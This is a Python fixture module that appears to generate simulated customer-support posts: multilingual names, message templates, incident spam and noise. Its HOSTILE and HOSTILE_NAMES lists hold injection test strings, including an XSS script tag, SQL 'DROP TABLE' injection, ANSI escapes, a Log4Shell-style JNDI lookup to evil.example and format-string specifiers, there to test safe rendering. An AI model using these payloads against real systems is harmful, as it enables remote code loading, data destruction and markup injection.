"""What the simulated customers say (templates use {order} {days} {hours} {amount} {product}
{city} {ticket}): names, message templates in six languages, noise, and the
hostile strings a terminal UI must show literally."""

from __future__ import annotations

import re
import unicodedata

# Mentions and hashtags in plain text, as Mastodon links them when it renders a post.
MENTION_RE = re.compile(r"(^|[^\w@/])@(\w+(?:@[\w-]+(?:\.[\w-]+)+)?)", re.U)
HASHTAG_RE = re.compile(r"(^|[^\w&/#])#(\w*[^\W\d_]\w*)", re.U)


def romanise(name: str) -> str:
    """ASCII letters and digits only (usernames)."""
    folded = unicodedata.normalize("NFKD", name).encode("ascii", "ignore").decode("ascii")
    return re.sub(r"[^A-Za-z0-9_]", "", folded) or "user"


def _pairs(names: str) -> list[tuple[str, str]]:
    return [(n, romanise(n)) for n in names.split()]


FIRST_NAMES: dict[str, list[tuple[str, str]]] = {
    "en": _pairs("Emma Olivia Ava Mia Amelia Harper Ella Grace Chloe Lily Liam Noah Oliver James Lucas "
                 "Henry Jack Leo Ethan Mason Sam Alex Jordan Taylor Priya Aisha Wei Kofi Zoe Ruby"),
    "de": _pairs("Anna Lena Marie Sophie Hannah Jonas Lukas Felix Paul Maximilian Jürgen Björn "
                 "Sören Uwe Katrin Jörg Käthe Günter Heike Mehmet"),
    "fr": _pairs("Camille Léa Chloé Manon Inès Hugo Théo Lucas Louis Gabriel Zoé Élodie Mathéo "
                 "Noémie Anaïs Loïc Gaëlle Jérôme Aurélie Yanis"),
    "es": _pairs("Lucía Sofía Martina María Paula Hugo Mateo Martín Pablo Álvaro Nuria Íñigo "
                 "Begoña Andrés Ramón Inés Sebastián Valentina Joaquín Ximena"),
    "pt": _pairs("Ana Beatriz Mariana Júlia Larissa João Pedro Lucas Gabriel Thiago Conceição "
                 "Sebastião Letícia Vitória Caio Luíza Mônica Antônio Fábio Rogério"),
}
FIRST_NAMES["ja"] = [("陽翔", "haruto"), ("蓮", "ren"), ("湊", "minato"), ("結菜", "yuina"),
                     ("陽葵", "himari"), ("さくら", "sakura"), ("健太", "kenta"), ("美咲", "misaki"),
                     ("翔太", "shota"), ("葵", "aoi"), ("ゆうき", "yuki"), ("大輔", "daisuke")]
LAST_NAMES: dict[str, list[tuple[str, str]]] = {
    "en": _pairs("Smith Johnson Williams Brown Jones Miller Davis Wilson Taylor Clark Lewis Walker "
                 "Young King Wright Patel Nguyen Okafor O'Brien MacLeod"),
    "de": _pairs("Müller Schmidt Schneider Fischer Weber Meyer Wagner Becker Schulz Hoffmann Koch "
                 "Schäfer Groß Weiß Krüger Yılmaz"),
    "fr": _pairs("Martin Bernard Dubois Thomas Robert Richard Petit Durand Leroy Moreau Lefèvre "
                 "Girard Bonnet Faure Mercier"),
    "es": _pairs("García Rodríguez González Fernández López Martínez Sánchez Pérez Gómez Martín "
                 "Jiménez Ruiz Hernández Díaz Muñoz Peña"),
    "pt": _pairs("Silva Santos Oliveira Souza Rodrigues Ferreira Alves Pereira Lima Gomes Ribeiro "
                 "Carvalho Araújo Gonçalves Simões"),
}
LAST_NAMES["ja"] = [("佐藤", "sato"), ("鈴木", "suzuki"), ("高橋", "takahashi"), ("田中", "tanaka"),
                    ("伊藤", "ito"), ("渡辺", "watanabe"), ("山本", "yamamoto"), ("中村", "nakamura")]

NAME_EMOJI = ["🌸", "☕", "🐈", "🚲", "🏳️‍🌈", "👩‍💻", "🧑🏽‍🍳", "🇩🇪", "🇧🇷", "✨", "🦀", "🐘"]
HOSTILE_NAMES = [
    "[bold red]ADMIN[/]",
    "\x1b[31mroot\x1b[0m",
    "\u202eelbuort\u202c",
    "Z̷̢̛̛a̸͎͗l̵̞̎g̶̱̿ó̴̫",
    "<b>not bold</b>",
    "👨‍👩‍👧‍👦 Family",
    "Robert'); DROP TABLE contacts;--",
]

PRODUCTS = {
    "en": ["headphones", "blender", "running shoes", "phone case", "coffee machine", "backpack", "smart watch"],
    "de": ["Kopfhörer", "Mixer", "Laufschuhe", "Handyhülle", "Kaffeemaschine", "Rucksack", "Smartwatch"],
    "fr": ["casque", "mixeur", "chaussures de course", "coque", "machine à café", "sac à dos", "montre"],
    "es": ["auriculares", "batidora", "zapatillas", "funda", "cafetera", "mochila", "reloj"],
    "pt": ["fones", "liquidificador", "tênis", "capinha", "cafeteira", "mochila", "relógio"],
    "ja": ["ヘッドホン", "ミキサー", "ランニングシューズ", "スマホケース", "コーヒーメーカー", "リュック",
           "スマートウォッチ"],
}
CITIES = {
    "en": ["London", "Leeds", "Dublin", "Austin", "Toronto", "Sydney"],
    "de": ["Berlin", "München", "Köln", "Wien", "Zürich", "Hamburg"],
    "fr": ["Paris", "Lyon", "Marseille", "Bruxelles", "Montréal", "Nantes"],
    "es": ["Madrid", "Sevilla", "Valencia", "Bogotá", "Ciudad de México", "Bilbao"],
    "pt": ["Lisboa", "Porto", "São Paulo", "Rio de Janeiro", "Belo Horizonte", "Recife"],
    "ja": ["東京", "大阪", "名古屋", "札幌", "福岡", "横浜"],
}
HASHTAGS = ["Acme", "AcmeSupport", "customerservice", "fail", "refund", "delivery", "thanks"]


MESSAGES: dict[str, list[str]] = {
    "en": [
        "where is my order #{order}? It's been {days} days and tracking hasn't moved",
        "My {product} arrived broken. How do I get a refund?",
        "still waiting on my refund of ${amount} for order {order}. This is ridiculous.",
        "can't log in to the app since the update, it just says 'session expired' 🙄",
        "Is there any way to change the delivery address on order {order}? I moved to {city}",
        "Thank you for the super quick delivery! The {product} is perfect 😍",
        "Your app keeps crashing when I open my orders. iPhone 15, latest iOS.",
        "I was charged twice for order {order} (${amount} each). Please fix this ASAP",
        "Honestly the worst customer service I've ever had. {days} days, no answer to ticket {ticket}.",
        "Hi! Do you ship to {city}? Couldn't find it in the FAQ",
        "Password reset email never arrives. Checked spam. Help?",
        "Just wanted to say the support team was amazing today, thanks Sam!",
        "Package says delivered but nothing here in {city}. Order {order}.",
        "How do I cancel my subscription? The button in settings does nothing",
        "Received the wrong item — ordered a {product}, got something else entirely",
        "Is the site down? Checkout fails with error 502 every time",
        "Courier left my parcel in the rain 🌧️ and the {product} is soaked",
        "Any update on ticket {ticket}? Nobody has replied in {hours} hours",
        "love the new app design, much faster than before 👍",
        "Why was my account locked?? I didn't do anything\n\nI need access to my orders today",
        "Promo code SPRING20 doesn't work at checkout, says invalid",
        "2FA code never arrives by SMS, so I can't log in at all",
    ],
    "de": [
        "Wo bleibt meine Bestellung {order}? Seit {days} Tagen keine Bewegung in der Sendungsverfolgung",
        "Meine {product} kamen kaputt an. Wie bekomme ich mein Geld zurück?",
        "Warte immer noch auf die Erstattung von {amount} €. Das ist eine Frechheit.",
        "Kann mich seit dem Update nicht mehr in der App anmelden",
        "Danke für die schnelle Lieferung nach {city}, alles bestens! 👍",
        "Mir wurde die Bestellung {order} doppelt abgebucht. Bitte um Korrektur.",
        "Paket als zugestellt markiert, aber nichts angekommen. Bestellung {order}",
        "Wie kündige ich mein Abo? Finde die Option nirgends",
        "Ticket {ticket} seit {hours} Stunden ohne Antwort. Hallo??",
        "Die App stürzt beim Bezahlen jedes Mal ab",
    ],
    "fr": [
        "Où est ma commande {order} ? Ça fait {days} jours que le suivi ne bouge plus",
        "Mon {product} est arrivé cassé, comment obtenir un remboursement ?",
        "Toujours pas de remboursement pour {amount} €, c'est inadmissible",
        "Impossible de me connecter à l'appli depuis la mise à jour",
        "Merci pour la livraison rapide à {city}, au top ! 😊",
        "J'ai été débité deux fois pour la commande {order}",
        "Colis marqué livré mais rien reçu. Commande {order}.",
        "Comment résilier mon abonnement ?",
        "Aucune réponse au ticket {ticket} depuis {hours} heures…",
        "L'appli plante quand j'ouvre mes commandes",
    ],
    "es": [
        "¿Dónde está mi pedido {order}? Llevo {days} días esperando",
        "Mi {product} llegó roto. ¿Cómo pido el reembolso?",
        "Sigo esperando el reembolso de {amount} €. Vergonzoso.",
        "No puedo iniciar sesión en la app desde la actualización",
        "¡Gracias por el envío tan rápido a {city}! 😍",
        "Me cobraron dos veces el pedido {order}",
        "El paquete figura como entregado pero no ha llegado nada",
        "¿Cómo cancelo mi suscripción?",
        "El ticket {ticket} lleva {hours} horas sin respuesta",
        "La app se cierra sola al pagar",
    ],
    "pt": [
        "Cadê meu pedido {order}? Já são {days} dias sem atualização",
        "Meu {product} chegou quebrado. Como peço reembolso?",
        "Ainda esperando o reembolso de R$ {amount}. Absurdo.",
        "Não consigo entrar no app desde a atualização",
        "Obrigada pela entrega rápida em {city}! 🥰",
        "Fui cobrado duas vezes pelo pedido {order}",
        "Consta como entregue mas não recebi nada. Pedido {order}",
        "Como cancelo minha assinatura?",
        "Chamado {ticket} sem resposta há {hours} horas",
    ],
    "ja": [
        "注文{order}がまだ届きません。{days}日経っています。",
        "届いた{product}が壊れていました。返金できますか？",
        "返金がまだです。いつになりますか？",
        "アップデート後にアプリにログインできません",
        "{city}まで早く届きました。ありがとうございます！😊",
        "注文{order}が二重に請求されています",
        "配達済みになっていますが届いていません",
        "サブスクの解約方法を教えてください",
    ],
}

FOLLOWUPS: dict[str, list[str]] = {
    "en": [
        "thanks, that worked!",
        "Still not fixed. Order {order} is still stuck.",
        "I've sent you a DM with my order number",
        "ok but when exactly? I need it before the weekend",
        "That doesn't answer my question at all.",
        "Great, refund received. Appreciate it 🙏",
    ],
    "de": ["Danke, hat geklappt!", "Immer noch nicht gelöst.", "Habe euch eine DM geschickt."],
    "fr": ["Merci, ça marche !", "Toujours pas résolu.", "Je vous ai envoyé un message privé."],
    "es": ["¡Gracias, funcionó!", "Sigue sin resolverse.", "Os he mandado un DM."],
    "pt": ["Valeu, deu certo!", "Continua sem solução.", "Mandei DM pra vocês."],
    "ja": ["ありがとうございます、解決しました！", "まだ解決していません。", "DMを送りました。"],
}

# A spike's cause: one incident that many people write about at once. A copy-paste campaign
# (the same text, a different ending) and the same complaint in other words: incident clusters.
INCIDENT = [
    "I was charged twice for my Acme subscription this month. Refund now! #AcmeRefundNow",
    "I was charged twice for my Acme subscription this month. Refund now! #AcmeRefundNow",
    "I was charged twice for my Acme subscription this month. Refund now! #AcmeRefundNow",
    "Acme charged my card twice for the subscription?! I want a refund #AcmeRefundNow",
    "double charge on my Acme subscription again, refund please #AcmeRefundNow",
]
INCIDENT_ENDINGS = ["", " 😡", " !!!", " +1", " same here", " 🙄", " RT if you too"]

NOISE = [
    "RT @{brand}: Our spring sale starts today — up to 40% off: {product} and more!",
    "RT @{brand}: We're hiring support agents in {city}",
    "🤖 Daily mention digest: @{brand} was mentioned 42 times today",
    "Win a free {product}!!! Follow and tag @{brand} 🎁🎁🎁",
    "RT @{brand}: Scheduled maintenance tonight 02:00–03:00 UTC",
]

HOSTILE = [
    "[bold red]URGENT[/] [link=https://evil.example]click[/link]",
    "\x1b[31mRED ALERT\x1b[0m\x1b[2J",
    "\u202eenod ton si dnufer ym\u202c",
    "👨‍👩‍👧‍👦🏳️‍🌈👩🏽‍💻 family plan broken",
    "Ḩ̸̡̪̯ͨ͊̽̅̾̎E̷̛̬̩̾͛ͪ̈́̀́͘ ̶̧̨̱̹̭̯ͧ̾ͬC̷̙̲̝͖ͭ̏ͥͮ͟Oͮ͏̮̪̝͍M̲̖͊̒ͪͩͬ̚̚͜E̴̟̟͙̞ͩ͌͝S̨̥̫͎̭ͯ̿̔̀ͅ",
    "<script>alert('xss')</script> your site is broken",
    "&lt;b&gt;not bold&lt;/b&gt; &amp; friends",
    "Robert'); DROP TABLE customers;--",
    "${jndi:ldap://evil.example/a} %s%s%n {0}",
    "\x07\x08beep",
    "ﷺ ﷽ 𒐫 ⸻ 𝕳𝖊𝖑𝖕",
]
